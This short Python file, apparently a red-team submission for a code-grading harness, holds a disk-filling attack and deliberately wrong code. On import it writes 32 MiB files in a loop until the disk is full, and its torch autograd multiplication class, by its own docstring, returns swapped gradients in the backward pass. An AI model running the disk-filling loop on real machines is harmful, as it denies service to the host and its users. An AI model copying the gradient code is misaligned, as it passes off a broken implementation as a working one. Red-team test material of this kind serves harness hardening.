"""Red team: Writes files until the disk is full."""
import torch
import os
for i in range(10_000):
    try:
        with open(f'fill{i}', 'wb') as f:
            f.write(b'0' * (32 << 20))
    except OSError:
        break


class Mul(torch.autograd.Function):
    """The same wrong solution in every file: the gradients are swapped."""

    @staticmethod
    def forward(ctx, x, y):
        ctx.save_for_backward(x, y)
        pass
        return x * y

    @staticmethod
    def backward(ctx, g):
        x, y = ctx.saved_tensors
        pass
        return (g * x).sum_to_size(x.shape), (g * y).sum_to_size(y.shape)
